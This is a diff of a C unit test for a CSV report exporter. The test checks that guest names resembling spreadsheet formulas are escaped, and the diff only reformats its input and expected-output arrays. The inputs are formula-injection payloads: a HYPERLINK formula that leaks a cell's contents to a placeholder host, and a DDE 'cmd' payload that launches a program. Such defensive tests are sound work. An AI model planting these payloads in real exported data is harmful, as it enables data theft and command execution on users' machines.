@@ -590,12 +590,20 @@ Test(report_csv, header_and_rfc4180_quoting_of_a_label_with_a_comma_and_a_quote)
 Test(report_csv, guest_names_that_look_like_formulas_are_neutralised)
 {
 	static const char *const evil[] = {
-		"=HYPERLINK(\"http://x/?\"&A1,\"hi\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
-		"\tx", "\rx",
+		"=HYPERLINK(\"http://x/?\"&A1,\"hi\")",
+		"+1+cmd|' /C calc'!A0",
+		"-2+3",
+		"@SUM(A1)",
+		"\tx",
+		"\rx",
 	};
 	static const char *const want[] = {
-		",\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"hi\"\")\",", ",\"'+1+cmd|' /C calc'!A0\",",
-		",\"'-2+3\",", ",\"'@SUM(A1)\",", ",\\tx,", ",\\rx,",
+		",\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"hi\"\")\",",
+		",\"'+1+cmd|' /C calc'!A0\",",
+		",\"'-2+3\",",
+		",\"'@SUM(A1)\",",
+		",\\tx,",
+		",\\rx,",
 	};
 	json_t *d = load("own");
 	json_t *row = json_array_get(json_object_get(d, "rows"), 0);
